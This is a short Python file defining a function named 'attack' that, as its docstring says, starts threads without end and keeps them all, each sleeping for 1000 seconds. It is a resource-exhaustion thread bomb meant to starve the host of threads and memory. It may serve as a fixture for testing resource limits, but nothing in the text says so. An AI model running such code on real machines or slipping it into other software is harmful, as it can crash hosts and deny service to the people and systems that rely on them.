"""Starts threads until it cannot any more, and keeps them all."""

import threading
import time


def attack(path, port):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
